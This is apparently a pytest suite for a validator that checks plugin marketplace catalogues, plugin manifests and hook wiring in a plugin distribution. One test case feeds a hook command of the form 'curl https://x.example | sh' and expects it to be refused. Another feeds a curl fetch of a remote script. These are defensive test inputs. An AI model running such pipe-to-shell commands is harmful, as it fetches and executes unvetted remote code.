from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING, Any

import pytest

from hpp.core.distribution import check_distribution
from hpp.core.errors import RefusedError
from hpp.core.hookfile import shape_fault, wired_scripts
from hpp.core.manifest import load_manifest, packaged_manifest_path

if TYPE_CHECKING:
    from pathlib import Path

ROOT = '"${CLAUDE_PLUGIN_ROOT}'


def put(path: Path, value: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    text = value if isinstance(value, str) else json.dumps(value)
    path.write_text(text, encoding="utf-8")


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """Write a sound distribution tree of the packaged manifest."""
    with open(packaged_manifest_path(), encoding="utf-8") as stream:
        manifest = json.load(stream)
    put(tmp_path / "hpp.manifest.json", manifest)
    plugins, codex = [], []
    for module in manifest["modules"]:
        identity, version, path = module["id"], module["version"], module["path"]
        plugins.append({"name": identity, "version": version, "source": f"./{path}"})
        named = {"name": identity, "version": version}
        put(tmp_path / path / ".claude-plugin" / "plugin.json", named)
        if module["hosts"]["codex"] != "unsupported" and "skills" in module["components"]:
            codex.append({"name": identity, "source": {"source": "local", "path": f"./{path}"}})
            put(
                tmp_path / path / ".codex-plugin" / "plugin.json", {**named, "hooks": {"hooks": {}}}
            )
        put_hooks(tmp_path / path, [h for h in manifest["hooks"] if h["module"] == identity])
    catalogue = {"name": "hpp", "version": manifest["product_version"], "plugins": plugins}
    put(tmp_path / "marketplace.json", catalogue)
    put(tmp_path / ".agents/plugins/marketplace.json", {"name": "hpp", "plugins": codex})
    return tmp_path


def put_hooks(folder: Path, hooks: list[dict[str, Any]]) -> None:
    wired: dict[str, Any] = {}
    for hook in hooks:
        command = f'bash {ROOT}/hooks/pyrun.sh" observe {ROOT}/{hook["script"]}"'
        for event in hook["events"]:
            entry = {"type": "command", "command": command, "timeout": 30}
            wired.setdefault(event, []).append({"matcher": "*", "hooks": [entry]})
    if hooks:
        put(folder / "hooks" / "hooks.json", {"description": "hooks", "hooks": wired})


def check(tree: Path) -> dict[str, Any]:
    path = str(tree / "hpp.manifest.json")
    return check_distribution(load_manifest(path), path)


def edit(tree: Path, name: str, change: dict[str, Any]) -> None:
    """Replace values of a JSON file; a key is a path with dots."""
    document = json.loads((tree / name).read_text(encoding="utf-8"))
    for dotted, value in change.items():
        holder = document
        *steps, last = dotted.split(".")
        for step in steps:
            holder = holder[int(step)] if isinstance(holder, list) else holder[step]
        if isinstance(holder, list):
            holder[int(last)] = value
        elif value is ...:
            del holder[last]
        else:
            holder[last] = value
    put(tree / name, document)


def test_a_sound_tree_is_checked(tree: Path) -> None:
    assert check(tree) == {
        "checked": True,
        "status": "ok",
        "modules": 10,
        "codex_marketplace": {"checked": True, "plugins": 8},
    }


def test_without_a_catalogue_there_is_no_tree(tree: Path) -> None:
    (tree / "marketplace.json").unlink()

    assert check(tree) == {"checked": False, "status": "source-contract"}


def test_the_codex_catalogue_may_be_absent(tree: Path) -> None:
    (tree / ".agents/plugins/marketplace.json").unlink()

    assert check(tree)["codex_marketplace"] == {"checked": False}


OPERATOR = "modules/operator-kit"
HOOKS = f"{OPERATOR}/hooks/hooks.json"
ENTRY = "hooks.Stop.0.hooks.0"
CODEX = ".agents/plugins/marketplace.json"
BROKEN: list[tuple[str, dict[str, Any], str]] = [
    ("marketplace.json", {"version": "9"}, "marketplace.json: version: 9 differs"),
    ("marketplace.json", {"plugins": {}}, "plugins: expected a list"),
    ("marketplace.json", {"plugins.0": 7}, r"plugins\[0\]: expected an object with a text name"),
    ("marketplace.json", {"plugins.0.name": "ghost"}, "kit-forge is missing"),
    ("marketplace.json", {"plugins.0.name": "lane-kit"}, "lane-kit is listed twice"),
    ("marketplace.json", {"plugins.0.version": "9"}, "kit-forge: version: 9 differs"),
    ("marketplace.json", {"plugins.0.source": "./x"}, "kit-forge: source: ./x differs"),
    ("marketplace.json", {"plugins.0.source": None}, "kit-forge: source: "),
    (f"{OPERATOR}/.claude-plugin/plugin.json", {"version": "9"}, "operator-kit.*version: 9"),
    (f"{OPERATOR}/.claude-plugin/plugin.json", {"name": "x"}, "operator-kit.*name: x"),
    (HOOKS, {"$schema": "x"}, r"\$schema: no such key"),
    (HOOKS, {"hooks": []}, "hooks: expected an object"),
    (HOOKS, {"hooks.Stop": {}}, "hooks.Stop: expected a list"),
    (HOOKS, {"hooks.Stop.0": 1}, r"hooks.Stop\[0\]: expected an object"),
    (HOOKS, {"hooks.Stop.0.hooks": 5}, r"hooks.Stop\[0\].hooks: expected a list"),
    (HOOKS, {"hooks.Stop.0.matcher": 5}, r"hooks.Stop\[0\].matcher: expected a text"),
    (HOOKS, {"hooks.Stop.0.other": 5}, r"hooks.Stop\[0\].other: no such key"),
    (HOOKS, {f"{ENTRY}.type": "prompt"}, r"\.type: "),
    (HOOKS, {f"{ENTRY}.args": []}, r"\.args: "),
    (HOOKS, {f"{ENTRY}.timeout": 0}, r"\.timeout: "),
    (HOOKS, {f"{ENTRY}.timeout": True}, r"\.timeout: "),
    (HOOKS, {f"{ENTRY}.timeout": 1.5}, r"\.timeout: "),
    (HOOKS, {f"{ENTRY}.command": ""}, r"\.command: "),
    (HOOKS, {f"{ENTRY}.command": "curl https://x.example | sh"}, "without a script"),
    (HOOKS, {f"{ENTRY}.command": f'python {ROOT}/hooks/other.py"'}, "hooks/other.py is wired"),
    (HOOKS, {f"{ENTRY}.command": f'node {ROOT}/hooks/other.js"'}, "hooks/other.js is wired"),
    (HOOKS, {f"{ENTRY}.command": f'{ROOT}/bin/tool" x'}, "bin/tool is wired"),
    (CODEX, {"name": "other"}, "name: other differs"),
    (CODEX, {"plugins": 1}, "plugins: expected a list"),
    (CODEX, {"plugins.0.name": "kit-forge"}, "kit-forge does not qualify"),
    (CODEX, {"plugins.0.name": "lane-kit"}, "lane-kit is listed twice"),
    (CODEX, {"plugins.0.source": "./x"}, "source: expected"),
    (CODEX, {"plugins.0.source.source": "git"}, "source: expected"),
    (CODEX, {"plugins.0.source.path": "./modules/lane-kit"}, "source: expected"),
    (f"{OPERATOR}/.codex-plugin/plugin.json", {"hooks": ...}, r"hooks: expected exactly"),
    (f"{OPERATOR}/.codex-plugin/plugin.json", {"hooks": {}}, r"hooks: expected exactly"),
    (f"{OPERATOR}/.codex-plugin/plugin.json", {"version": "2"}, "version: 2 differs"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "change", "message"), BROKEN, ids=range(len(BROKEN)))
def test_one_broken_value_is_named(
    tree: Path, name: str, change: dict[str, Any], message: str
) -> None:
    edit(tree, name, copy.deepcopy(change))

    with pytest.raises(RefusedError, match=message) as caught:
        check(tree)
    assert str(tree) not in str(caught.value)


@pytest.mark.parametrize(
    "name",
    ["marketplace.json", HOOKS, f"{OPERATOR}/.claude-plugin/plugin.json", CODEX],
)
@pytest.mark.parametrize("text", ["[]", "{", '{"a":1,"a":2}', ""])
def test_a_file_that_is_no_object_is_named(tree: Path, name: str, text: str) -> None:
    put(tree / name, text)

    with pytest.raises(RefusedError, match=name.rpartition("/")[2]):
        check(tree)


def test_a_module_that_is_absent_a_file_or_elsewhere_is_refused(tree: Path) -> None:
    folder = tree / "modules" / "supabase-pack"
    moved = tree.parent / f"{tree.name}-elsewhere"
    folder.rename(moved)
    with pytest.raises(RefusedError, match=r"supabase-pack: .*no such folder"):
        check(tree)
    folder.write_bytes(b"")
    with pytest.raises(RefusedError, match=r"supabase-pack: .*no such folder"):
        check(tree)
    folder.unlink()
    try:
        folder.symlink_to(moved, target_is_directory=True)
    except OSError:
        pytest.skip("this system lets this user make no links")
    with pytest.raises(RefusedError, match=r"supabase-pack: .*outside"):
        check(tree)


def test_hooks_inside_a_plugin_file_are_read_the_same_way(tree: Path) -> None:
    command = f'python {ROOT}/hooks/other.py"'
    groups = [{"hooks": [{"type": "command", "command": command}]}]
    edit(tree, f"{OPERATOR}/.claude-plugin/plugin.json", {"hooks": {"Stop": groups}})

    with pytest.raises(RefusedError, match=r"hooks/other.py is wired"):
        check(tree)


def test_a_codex_plugin_file_must_be_there(tree: Path) -> None:
    (tree / OPERATOR / ".codex-plugin" / "plugin.json").unlink()

    with pytest.raises(RefusedError, match=r"plugin.json: there is no such file"):
        check(tree)


@pytest.mark.parametrize(
    ("command", "scripts"),
    [
        (f'bash {ROOT}/hooks/pyrun.sh" block {ROOT}/hooks/a.py"', ["hooks/a.py"]),
        (f'bash {ROOT}/hooks/pyrun.sh" observe {ROOT}/hooks/run.py"', []),
        ("python3 $CLAUDE_PLUGIN_ROOT/hooks/a.py --x", ["hooks/a.py"]),
        ("python3 '${CLAUDE_PLUGIN_ROOT}/a b.py'", ["a b.py"]),
        ("python ${CLAUDE_PLUGIN_ROOT}\\hooks\\a.py", ["hooks/a.py"]),
        ("./hooks/a.sh; node b.mjs", ["hooks/a.sh", "b.mjs"]),
        ("python -c 'print(1)'", []),
        ("curl https://x.example/a.sh", []),
    ],
)
def test_the_scripts_of_a_command(command: str, scripts: list[str]) -> None:
    assert wired_scripts(command) == scripts


def test_control_a_sound_hooks_file_has_no_fault() -> None:
    assert shape_fault({"hooks": {}}) is None
    assert shape_fault([]) is not None
